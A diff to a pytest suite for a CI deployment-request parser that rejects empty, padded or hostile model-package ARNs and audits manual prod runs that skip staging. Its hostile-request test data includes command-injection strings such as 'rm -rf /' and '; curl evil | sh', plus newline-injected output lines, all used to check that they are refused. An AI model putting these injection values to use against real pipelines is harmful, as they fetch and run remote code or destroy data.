@@ -35,6 +35,7 @@ def test_a_model_approved_dispatch_selects_its_environment():
         "arn_staging": "",
         "deploy_prod": "false",
         "arn_prod": "",
+        "override": "",
     }
 
 
@@ -51,6 +52,7 @@ def test_a_staging_approval_is_promoted_to_prod_with_the_same_arn():
         "arn_staging": ARN,
         "deploy_prod": "true",
         "arn_prod": ARN,
+        "override": "",
     }
     manual = {"inputs": {"environment": "staging", "model_package_arn": ARN}}
     assert deploy_request.read("workflow_dispatch", manual) == outputs
@@ -82,12 +84,74 @@ def test_a_prod_approval_targets_prod_only():
 
 
 def test_a_manual_run_may_ask_for_the_latest_approved_package():
-    event = {"inputs": {"environment": "prod", "model_package_arn": "Latest"}}
+    event = {"inputs": {"environment": "staging", "model_package_arn": "Latest"}}
     outputs = deploy_request.read("workflow_dispatch", event)
-    assert outputs["arn_prod"] == "latest"
+    assert outputs["arn_staging"] == "latest"
+    assert outputs["deploy_staging"] == "true"
+    default = deploy_request.read("workflow_dispatch", {"inputs": {"environment": "dev"}})
+    assert default["arn_dev"] == "latest", "an input left at its default"
+
+
+@pytest.mark.parametrize("arn", ["", " ", f"{ARN}\n", f" {ARN}"])
+def test_an_empty_or_padded_arn_is_refused_never_latest(arn):
+    """Issue 12: an empty ARN (or a dispatch with none) deployed "latest"; padding was trimmed."""
+    with pytest.raises(deploy_request.RequestError, match=r"empty|whitespace"):
+        deploy_request.read("repository_dispatch", dispatch(arn=arn))
+    with pytest.raises(deploy_request.RequestError, match=r"empty|whitespace"):
+        deploy_request.read(
+            "workflow_dispatch", {"inputs": {"environment": "dev", "model_package_arn": arn}}
+        )
+    missing = {"action": "model-approved", "client_payload": {"environment": "dev"}}
+    with pytest.raises(deploy_request.RequestError, match="empty"):
+        deploy_request.read("repository_dispatch", missing)
+
+
+def manual_prod(arn=ARN, reason=""):
+    return {
+        "inputs": {"environment": "prod", "model_package_arn": arn, "skip_staging_reason": reason},
+        "sender": {"login": "octocat"},
+    }
+
+
+def test_a_manual_prod_run_needs_a_package_staging_recorded():
+    """Issue 12: workflow_dispatch with environment=prod skipped staging."""
+    never = {"staging": set()}.__getitem__
+    with pytest.raises(deploy_request.RequestError, match="never recorded as deployed to staging"):
+        deploy_request.read("workflow_dispatch", manual_prod(), recorded=never)
+    with pytest.raises(deploy_request.RequestError, match="not 'latest'"):
+        deploy_request.read("workflow_dispatch", manual_prod("latest"), recorded=never)
+    passed = {"staging": {ARN}}.__getitem__
+    outputs = deploy_request.read("workflow_dispatch", manual_prod(), recorded=passed)
+    assert outputs["deploy_prod"] == "true" and outputs["override"] == ""
+
+
+def test_skipping_staging_on_purpose_is_audited():
+    never = {"staging": set()}.__getitem__
+    outputs = deploy_request.read(
+        "workflow_dispatch", manual_prod(reason="hotfix\nfor INC-42"), recorded=never
+    )
     assert outputs["deploy_prod"] == "true"
-    empty = deploy_request.read("workflow_dispatch", {"inputs": {"environment": "dev"}})
-    assert empty["arn_dev"] == "latest"
+    assert outputs["override"] == "Skipped staging: hotfix for INC-42 (requested by octocat)."
+
+
+def test_staging_history_is_read_from_git(tmp_path, tmp_path_factory):
+    """Every ARN any commit of deployments/staging.json named, not only the latest one."""
+    import subprocess
+
+    def git(*args):
+        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)
+
+    git("init", "-q")
+    (tmp_path / "deployments").mkdir()
+    older, newer = ARN.replace("/7", "/6"), ARN
+    for arn in (older, newer):
+        (tmp_path / "deployments" / "staging.json").write_text(record("staging", arn))
+        git("add", "-A")
+        git("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", arn)
+    assert deploy_request.recorded_in_git("staging", tmp_path) == {older, newer}
+    assert deploy_request.recorded_in_git("prod", tmp_path) == set()
+    with pytest.raises(deploy_request.RequestError, match="cannot read the history"):
+        deploy_request.recorded_in_git("staging", tmp_path_factory.mktemp("not-a-repository"))
 
 
 def record(environment: str, arn: str) -> str:
@@ -142,9 +206,10 @@ def test_a_bad_record_is_refused(content, message):
         ("repository_dispatch", dispatch(environment="prod; rm -rf /"), "is not one of"),
         ("repository_dispatch", dispatch(arn="arn:aws:s3:::bucket"), "not a versioned"),
         ("repository_dispatch", dispatch(arn=ARN.rsplit("/", 1)[0]), "not a versioned"),
-        ("repository_dispatch", dispatch(arn=ARN + '"; curl evil | sh; "'), "not a versioned"),
-        ("repository_dispatch", dispatch(arn=ARN + "\n/8"), "not a versioned"),
-        ("repository_dispatch", dispatch(arn=ARN + "\ndeploy_prod=true"), "not a versioned"),
+        ("repository_dispatch", dispatch(arn=ARN + '"; curl evil | sh; "'), "whitespace"),
+        ("repository_dispatch", dispatch(arn=ARN + '";curl${IFS}evil'), "not a versioned"),
+        ("repository_dispatch", dispatch(arn=ARN + "\n/8"), "whitespace"),
+        ("repository_dispatch", dispatch(arn=ARN + "\ndeploy_prod=true"), "whitespace"),
         ("pull_request", {}, "does not start a deployment"),
     ],
 )
@@ -153,10 +218,11 @@ def test_malformed_or_hostile_requests_are_refused(event_name, event, message):
         deploy_request.read(event_name, event)
 
 
-def test_surrounding_whitespace_is_dropped_so_no_output_line_can_be_added():
-    outputs = deploy_request.read("repository_dispatch", dispatch(arn=f" {ARN}\n"))
-    assert outputs["arn_staging"] == ARN
+def test_no_output_line_can_be_added():
+    outputs = deploy_request.read("repository_dispatch", dispatch(arn=ARN))
     assert all("\n" not in value for value in outputs.values())
+    with pytest.raises(deploy_request.RequestError, match="whitespace"):
+        deploy_request.read("repository_dispatch", dispatch(arn=f"{ARN}\narn_prod=x"))
 
 
 def test_main_reads_the_event_file_and_writes_outputs(tmp_path, monkeypatch, capsys):
